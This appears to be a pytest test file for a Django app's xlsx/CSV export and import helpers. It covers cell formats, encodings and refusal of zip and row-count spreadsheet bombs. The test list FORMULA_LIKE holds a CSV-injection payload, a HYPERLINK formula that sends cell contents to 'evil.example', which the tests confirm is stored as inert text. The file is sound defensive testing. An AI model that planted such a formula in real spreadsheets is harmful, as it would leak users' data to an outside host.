"""The one spreadsheet writer and reader: real .xlsx files written, then read back with
openpyxl; CSV files in the encodings and separators accounting systems use."""

import csv
import datetime
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal

from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

import openpyxl
import openpyxl.styles
import pytest

from governance.common import spreadsheets
from governance.common.spreadsheets import (
    CSV,
    DATE,
    MONEY,
    NUMBER,
    PERCENT,
    TEXT,
    EmptyFile,
    Formula,
    SpreadsheetRefused,
    UnreadableFile,
    Workbook,
    map_columns,
    normalise,
    read_table,
    text,
    validate_spreadsheet_upload,
)
from tests.governance.common import spreadsheet_bombs as bombs

# Writing --------------------------------------------------------------------------------

COLUMNS = [("Namn", TEXT, 30), ("Belopp", MONEY, 18), ("Andel", PERCENT, 10), ("Dag", DATE, 12)]


def read_back(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet_xml(content, number=1):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


def test_a_sheet_has_a_bold_frozen_heading_an_auto_filter_and_formats_by_kind():
    workbook = Workbook()
    sheet = workbook.sheet("Poster", COLUMNS)
    sheet.row("Tåg", Decimal("1234.50"), 38.3, datetime.date(2013, 4, 30))
    sheet.row("Hotell", 99, None, None)
    sheet.totals("Summa", Decimal("1333.50"))

    book = read_back(workbook.bytes())

    written = book["Poster"]
    assert [cell.value for cell in written[1]] == ["Namn", "Belopp", "Andel", "Dag"]
    assert all(cell.font.bold for cell in written[1])
    assert written.freeze_panes == "A2"
    assert written.auto_filter.ref == "A1:D3"  # the totals row stays out of the filter
    assert written.column_dimensions["A"].width == 30
    assert written["B2"].number_format == '#,##0.00 "kr"' and written["B2"].value == 1234.5
    assert written["C2"].number_format == "0.0 %" and written["C2"].value == pytest.approx(0.383)
    assert written["D2"].is_date and written["D2"].number_format == "yyyy-mm-dd"
    assert written["D2"].value == datetime.datetime(2013, 4, 30)
    assert [cell.value for cell in written[4]][:2] == ["Summa", 1333.5]
    assert written["A4"].font.bold and written["B4"].font.bold
    assert written["B4"].number_format == '#,##0.00 "kr"'


def test_a_caption_and_lines_above_the_table_move_the_heading_freeze_and_filter():
    workbook = Workbook()
    sheet = workbook.sheet("Budget", COLUMNS, caption="Budgetuppföljning", lines=["Version 2"])
    sheet.row("A", 1, 2, None)

    written = read_back(workbook.bytes()).active

    rows = list(written.iter_rows(values_only=True))
    assert rows[0][0] == "Budgetuppföljning" and written["A1"].font.bold
    assert rows[1][0] == "Version 2" and all(value is None for value in rows[2])
    assert rows[3] == ("Namn", "Belopp", "Andel", "Dag")
    assert written.freeze_panes == "A5"
    assert written.auto_filter.ref == "A4:D5"


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_that_text(value):
    workbook = Workbook()
    sheet = workbook.sheet("Text", COLUMNS, caption=value)
    sheet.row(value, value, value, value)
    sheet.totals(value)

    content = workbook.bytes()

    written = read_back(content).active
    for cell in (written["A1"], *written[4], written["A5"]):
        assert (cell.value, cell.data_type) == (value, "s")
    assert written["A4"].quotePrefix  # Excel keeps it text when the cell is edited
    assert "<f>" not in sheet_xml(content)


def test_only_a_formula_value_is_written_as_a_formula():
    workbook = Workbook()
    sheet = workbook.sheet("Summor", [("Namn", TEXT), ("Belopp", MONEY), ("Antal", NUMBER)])
    sheet.row("A", 10, 1)
    sheet.row("B", 20, 2)
    sheet.sum_totals("Summa")
    sheet.row("=SUM(B2:B3)", Formula("=B2*2"), None)

    written = read_back(workbook.bytes()).active

    assert written["B4"].value == "=SUM(B2:B3)" and written["B4"].data_type == "f"
    assert written["B4"].number_format == '#,##0.00 "kr"' and written["B4"].font.bold
    assert written["C4"].value is None  # no sum under a column that is not money
    assert written["A5"].data_type == "s" and written["B5"].data_type == "f"
    with pytest.raises(ValueError):
        Formula("SUM(B2:B3)")


def test_an_empty_table_gets_no_sum_row_and_a_filter_over_its_heading():
    workbook = Workbook()
    sheet = workbook.sheet("Tom", COLUMNS)
    sheet.sum_totals("Summa")

    written = read_back(workbook.bytes()).active

    assert written.max_row == 1
    assert written.auto_filter.ref == "A1:D2"


def test_a_row_with_more_values_than_columns_is_a_mistake():
    sheet = Workbook().sheet("Fel", [("Namn", TEXT)])
    with pytest.raises(ValueError):
        sheet.row("a", "b")


def test_cells_of_one_row_can_take_other_kinds_than_their_columns():
    workbook = Workbook()
    sheet = workbook.sheet("Sammanfattning", [("Post", TEXT), ("Värde", TEXT)])
    sheet.row("Start", datetime.date(2013, 4, 1), kinds=(TEXT, DATE))
    sheet.row("Budget", Decimal("10.5"), kinds=(TEXT, MONEY))

    written = read_back(workbook.bytes()).active

    assert written["B2"].is_date and written["B2"].number_format == "yyyy-mm-dd"
    assert written["B3"].number_format == '#,##0.00 "kr"'


EVERY_KIND_COLUMNS = [
    ("Text", TEXT, 40),
    ("Belopp", MONEY, 18),
    ("Andel", PERCENT, 10),
    ("Dag", DATE, 12),
    ("Tal", NUMBER, None),
]
LONG_TEXT = "Lång text " * 4000  # 40 000 characters: more than a cell holds


def every_kind_workbook():
    """A sheet with every kind of cell the exports write, rows as a user's data has them."""
    workbook = Workbook()
    sheet = workbook.sheet(
        "Alla sorters celler i ett blad",  # 30 characters: a title is cut at 31
        EVERY_KIND_COLUMNS,
        caption="=Rubrik som ser ut som en formel",
        lines=["Period 2024-01-01 – 2024-12-31"],
    )
    sheet.row("=1+1", Decimal("1234567.50"), 38.3, datetime.date(2024, 2, 29), 12)
    sheet.row("+46 70 123 45 67", Decimal("-0.10"), Decimal("12.5"), None, 1.5)
    sheet.row("-avdrag", None, None, datetime.date(1900, 1, 15), None)
    sheet.row("@användare", 0, 0, None, 10**12)
    sheet.row('Tab\tnull\x00och klocka\x07 🎉 Ål & <b> "citat"', 7, None, None, None)
    sheet.row(" rad 1\r\nrad 2 ", Formula("=B6*2"), None, None, None)
    sheet.row(LONG_TEXT, None, None, None, None)
    sheet.row("#N/A", "", None, None, None)
    sheet.sum_totals("Summa")
    sheet.totals("Antal", None, None, None, 7)
    return workbook.bytes()


def test_every_kind_of_cell_reads_back_as_written():
    content = every_kind_workbook()

    book = read_back(content)
    written = book["Alla sorters celler i ett blad"]
    assert written["A1"].value == "=Rubrik som ser ut som en formel"
    assert written["A1"].data_type == "s" and written["A1"].font.bold
    assert written["A2"].value == "Period 2024-01-01 – 2024-12-31"
    assert [cell.value for cell in written[4]] == ["Text", "Belopp", "Andel", "Dag", "Tal"]
    assert all(cell.font.bold and cell.alignment.wrap_text for cell in written[4])
    assert written.freeze_panes == "A5" and written.auto_filter.ref == "A4:E12"
    assert [written.column_dimensions[letter].width for letter in "ABCD"] == [40, 18, 10, 12]

    # Text that a spreadsheet program would run stays text, and text when edited.
    for reference, value in [("A5", "=1+1"), ("A6", "+46 70 123 45 67"), ("A7", "-avdrag"),
                             ("A8", "@användare"), ("A12", "#N/A")]:  # fmt: skip
        assert (written[reference].value, written[reference].data_type) == (value, "s")
        assert written[reference].quotePrefix
    assert "<f>=1+1" not in sheet_xml(content) and "<f>1+1" not in sheet_xml(content)
    # Control characters XML cannot hold are left out; the rest of the text is kept.
    assert written["A9"].value == 'Tab\tnulloch klocka 🎉 Ål & <b> "citat"'
    assert not written["A9"].quotePrefix
    assert written["A10"].value == " rad 1\r\nrad 2 "  # white space and line ends kept
    assert written["A11"].value == LONG_TEXT[:32767]
    assert written["B12"].value is None

    # Money, percentages, dates and numbers keep their values and formats.
    money = '#,##0.00 "kr"'
    assert (written["B5"].value, written["B5"].number_format) == (1234567.5, money)
    assert (written["B6"].value, written["B8"].value, written["B9"].value) == (-0.1, 0, 7)
    assert all(written[f"B{row}"].number_format == money for row in (6, 8, 9))
    assert written["C5"].value == pytest.approx(0.383) and written["C5"].number_format == "0.0 %"
    assert written["C6"].value == pytest.approx(0.125)
    assert written["D5"].value == datetime.datetime(2024, 2, 29)
    assert written["D5"].number_format == "yyyy-mm-dd"
    assert written["D7"].value == datetime.datetime(1900, 1, 15)  # before Excel's 1900 leap day
    assert (written["E5"].value, written["E6"].value, written["E8"].value) == (12, 1.5, 10**12)
    assert written["E5"].number_format == "General"
    assert written["B6"].value == -0.1 and written["E7"].value is None

    # The one formula is the one asked for; the totals are bold formulas and numbers.
    assert (written["B10"].value, written["B10"].data_type) == ("=B6*2", "f")
    assert written["B10"].number_format == money
    assert [cell.value for cell in written[13]][:2] == ["Summa", "=SUM(B5:B12)"]
    assert written["B13"].number_format == money and written["B13"].data_type == "f"
    assert all(written[f"{letter}13"].font.bold for letter in "AB")
    assert written["A14"].value == "Antal" and written["E14"].value == 7
    assert written["A14"].font.bold and written["E14"].font.bold
    assert not any(cell.font.bold for cell in written[5])


def test_a_sheet_of_many_rows_is_whole_and_in_order():
    workbook = Workbook()
    sheet = workbook.sheet("Kostnader", EVERY_KIND_COLUMNS)
    for number in range(1, 2501):
        sheet.row(f"V{number:05d}", Decimal(number) / 4, None, datetime.date(2024, 1, 1), number)
    sheet.totals("Summa", sum(Decimal(number) / 4 for number in range(1, 2501)))

    written = read_back(workbook.bytes()).active

    rows = list(written.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 2501
    assert rows[0] == ("V00001", 0.25, None, datetime.datetime(2024, 1, 1), 1)
    assert rows[2499] == ("V02500", 625, None, datetime.datetime(2024, 1, 1), 2500)
    assert rows[2500][:2] == ("Summa", 781562.5)
    assert written.auto_filter.ref == "A1:E2501"


def test_texts_and_dates_repeated_down_a_column_read_back_the_same_in_every_row(tmp_path):
    texts = ["=1+1", "#N/A", "Tåg & <buss>", "nul\x00l", " luft ", "", "x" * 200]
    expected = ["=1+1", "#N/A", "Tåg & <buss>", "null", " luft ", None, "x" * 200]
    workbook = Workbook()
    sheet = workbook.sheet("Poster", [("Text", TEXT), ("Dag", DATE), ("Kod", TEXT)])
    for _round in range(3):
        for text_value in texts:
            sheet.row(text_value, datetime.date(2024, 2, 29), text_value)
    # The same date in a cell of another kind is not the date cell written before.
    sheet.row(None, datetime.date(2024, 2, 29), kinds=[TEXT, MONEY])
    path = tmp_path / "poster.xlsx"
    with path.open("wb") as file:
        workbook.save(file)

    rows = list(openpyxl.load_workbook(path).active.iter_rows(min_row=2))

    assert len(rows) == 3 * len(texts) + 1
    for number, (text_cell, day, code) in enumerate(rows[:-1]):
        value = expected[number % len(texts)]
        assert text_cell.value == code.value == value
        assert text_cell.quotePrefix == code.quotePrefix == (value in ("=1+1", "#N/A"))
        assert day.value == datetime.datetime(2024, 2, 29) and day.number_format == "yyyy-mm-dd"
    assert rows[-1][1].value == 45351 and rows[-1][1].number_format == '#,##0.00 "kr"'


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_workbook(tmp_path):
    source = tmp_path / "alla.xlsx"
    source.write_bytes(every_kind_workbook())

    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
         str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip

    rows = list(csv.reader(io.StringIO((tmp_path / "alla.csv").read_text("utf-8"))))
    assert rows[0][0] == "=Rubrik som ser ut som en formel"
    assert rows[3] == ["Text", "Belopp", "Andel", "Dag", "Tal"]
    assert rows[4][0] == "=1+1" and rows[4][3] == "2024-02-29"
    assert "🎉 Ål & <b>" in rows[8][0]


def test_the_content_type_is_the_xlsx_one():
    assert spreadsheets.XLSX_CONTENT_TYPE == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


# Reading --------------------------------------------------------------------------------


def xlsx(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read_all(content, kind=spreadsheets.XLSX, **options):
    with read_table(content, kind, **options) as table:
        return table.header_row, table.headers, list(table.rows)


def test_the_header_is_the_first_non_blank_row_and_rows_keep_excel_numbers():
    content = xlsx(
        [
            [],
            [None, "  "],
            ["Datum", "Belopp", None, "Text"],  # row 3
            [datetime.datetime(2013, 4, 30), 12.5, None, "Tåg"],
            [],
            [None, None, None, " "],
            ["2013-05-02", 7, None, "Buss"],  # row 7
        ]
    )

    header_row, headers, rows = read_all(content)

    assert header_row == 3
    assert headers == ["Datum", "Belopp", "", "Text"]
    assert [number for number, _values in rows] == [4, 7]
    assert rows[0][1] == (datetime.datetime(2013, 4, 30), 12.5, None, "Tåg")


def test_with_cells_the_rows_tell_a_percentage_from_a_number():
    workbook = openpyxl.Workbook()
    workbook.active.append(["Framsteg"])
    workbook.active.append([0.5])
    workbook.active["A2"].number_format = "0%"
    buffer = io.BytesIO()
    workbook.save(buffer)

    with read_table(buffer, cells=True) as table:
        (number, (cell,)), *_rest = table.rows
    assert number == 2 and cell.value == 0.5 and "%" in cell.number_format


@pytest.mark.parametrize(
    ("raw", "encoding"),
    [
        ("Datum;Belopp;Text\r\n2013-04-30;1 234,50;Lön\r\n", "utf-8-sig"),
        ('Datum,Belopp,Text\n2013-04-30,"1 234,50",Lön\n', "utf-8"),
        ("Datum\tBelopp\tText\r\n2013-04-30\t1 234,50\tLön\r\n", "cp1252"),
        ("\r\n;;\r\nDatum;Belopp;Text\r\n;;\r\n\r\n2013-04-30;1 234,50;Lön\r\n", "cp1252"),
    ],
)
def test_a_csv_is_read_in_its_encoding_and_separator(raw, encoding):
    header_row, headers, rows = read_all(raw.encode(encoding), CSV)

    assert headers == ["Datum", "Belopp", "Text"]
    ((number, values),) = rows
    assert values == ["2013-04-30", "1 234,50", "Lön"]
    assert number == header_row + (3 if raw.startswith("\r\n") else 1)


@pytest.mark.parametrize(
    ("content", "kind"),
    [(b"", spreadsheets.XLSX), (b"", CSV), (b"\r\n;;\r\n", CSV), (xlsx([[], [None, " "]]), "xlsx")],
    ids=["no bytes", "no bytes csv", "blank csv rows", "blank sheet"],
)
def test_a_file_without_anything_in_it_is_empty(content, kind):
    with pytest.raises(EmptyFile):
        read_all(content, kind)


def docx_like_zip():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    return output.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"Kod;Aktivitet\nA.1;Test\n",
        b"PK\x03\x04 not really a zip",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # an old .xls
        docx_like_zip(),
    ],
    ids=["csv", "not a zip", "old xls", "docx"],
)
def test_a_file_that_is_no_workbook_is_unreadable(content):
    with pytest.raises(UnreadableFile) as raised:
        read_all(content)
    assert not isinstance(raised.value, EmptyFile)


def test_a_workbook_that_breaks_half_way_is_unreadable_while_its_rows_are_read():
    rows = [["Kod", "Text"], *([number, "x" * 40] for number in range(500))]
    source = zipfile.ZipFile(io.BytesIO(xlsx(rows)))
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            archive.writestr(item, data)

    with read_table(broken) as table:
        assert table.headers == ["Kod", "Text"]  # the start of the sheet is fine
        with pytest.raises(UnreadableFile):
            list(table.rows)


def test_headers_map_to_fields_by_their_normalised_text():
    headers = ["  Bokförings\u00a0datum: ", "BELOPP", "Text", "text", ""]
    labels = {
        "date": ["Datum", "bokförings datum"],
        "amount": ["belopp", "summa"],
        "description": ["Text"],
        "voucher": ["Verifikation"],
    }

    assert map_columns(headers, labels) == {"date": 0, "amount": 1, "description": 2}
    assert normalise(" Ansvariga \n personer: ") == "ansvariga personer"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (" A.1 ", "A.1"),
        (12.0, "12"),
        (12.5, "12.5"),
        (2001, "2001"),
        (datetime.datetime(2013, 4, 30), "2013-04-30"),
        (datetime.datetime(2013, 4, 30, 8, 15), "2013-04-30 08:15:00"),
        (datetime.date(2013, 4, 30), "2013-04-30"),
    ],
)
def test_text_is_what_the_user_sees_in_the_cell(value, expected):
    assert text(value) == expected


def test_blank_means_nothing_or_only_white_space():
    assert spreadsheets.is_blank(None) and spreadsheets.is_blank(" \t")
    assert not spreadsheets.is_blank(0) and not spreadsheets.is_blank("0")


# Limits ---------------------------------------------------------------------------------
# The bombs of issue 17, each refused before it costs memory or time, with a message that
# says what is wrong in Swedish. bench/bench_spreadsheet_limits.py measures how quickly.

REFUSALS = {
    "zip bomb": (
        bombs.zip_bomb,
        "Excelfilen packas upp till mer än 100,0 MB, långt mer än ett kalkylark med 50 000 "
        "rader behöver. Spara den på nytt i Excel eller dela upp den.",
    ),
    "shared strings": (bombs.shared_strings_bomb, "Excelfilen packas upp till mer än 10,0 MB"),
    "million empty rows": (bombs.million_empty_rows, "Filen har fler än 50 000 rader."),
    "far row": (bombs.far_row, "Filen har fler än 50 000 rader."),
    "wide row": (bombs.wide_row, "Filen har text i fler än 100 kolumner."),
}


def read_refusal(content, kind=spreadsheets.XLSX):
    with pytest.raises(SpreadsheetRefused) as raised:
        read_all(content, kind)
    return str(raised.value).replace("\xa0", " ")  # the no-break spaces of 50 000 and 10 MB


@pytest.mark.parametrize("name", REFUSALS)
def test_a_spreadsheet_bomb_is_refused_with_a_swedish_message(name):
    make, message = REFUSALS[name]
    with translation.override("sv"):
        assert message in read_refusal(make())


def test_a_19_mb_csv_is_refused_by_its_row_count_before_its_rows_are_read():
    content = bombs.large_csv()
    assert 19 * 1024 * 1024 < len(content) < 20 * 1024 * 1024  # under the upload limit
    with translation.override("sv"):
        assert read_refusal(content, CSV) == (
            "Filen har fler än 50 000 rader. Dela upp den i mindre filer."
        )


def test_a_file_over_the_upload_limit_is_refused_by_its_size(settings):
    settings.SPREADSHEET_MAX_UPLOAD_BYTES = 100 * 1024
    content = xlsx([["Kod", "Text"], *([number, f"Rad {number}"] for number in range(20_000))])
    assert len(content) > 100 * 1024
    with translation.override("sv"):
        message = read_refusal(content)
    assert message.startswith("Filen är ") and message.endswith(
        "ett kalkylark får vara högst 100,0 kB."
    )


def test_a_sheet_within_the_limits_is_read_whole(settings):
    settings.SPREADSHEET_MAX_ROWS = 3
    # Three rows below the header, a blank one among them.
    header, headers, rows = read_all(xlsx([["Kod"], ["A.1"], [None], ["A.2"]]))
    assert (header, headers, rows) == (1, ["Kod"], [(2, ("A.1",)), (4, ("A.2",))])
    csv_rows = read_all(b"Kod\r\nA.1\r\nA.2\r\nA.3\r\n", CSV)[2]
    assert csv_rows == [(2, ["A.1"]), (3, ["A.2"]), (4, ["A.3"])]


def test_one_row_over_the_limit_is_refused(settings):
    settings.SPREADSHEET_MAX_ROWS = 3
    with pytest.raises(SpreadsheetRefused):
        read_all(xlsx([["Kod"], ["A.1"], ["A.2"], ["A.3"], ["A.4"]]))
    with pytest.raises(SpreadsheetRefused):
        read_all(b"Kod\r\nA.1\r\nA.2\r\nA.3\r\nA.4\r\n", CSV)


def test_formatted_empty_cells_far_to_the_right_are_no_columns(settings):
    settings.SPREADSHEET_MAX_COLUMNS = 3
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Kod", "Text"])
    sheet.append(["A.1", "Kartlägg"])
    sheet.cell(row=2, column=200).font = openpyxl.styles.Font(bold=True)  # LibreOffice does
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_all(buffer.getvalue())[2] == [(2, ("A.1", "Kartlägg", None))]


def test_the_upload_validator_refuses_a_bomb_before_it_is_stored():
    upload = SimpleUploadedFile("kostnader.xlsx", bombs.zip_bomb())
    with translation.override("sv"), pytest.raises(ValidationError) as raised:
        validate_spreadsheet_upload(upload)
    assert "packas upp till mer än 100,0\xa0MB" in raised.value.messages[0]
    validate_spreadsheet_upload(SimpleUploadedFile("plan.xlsx", xlsx([["Kod"], ["A.1"]])))
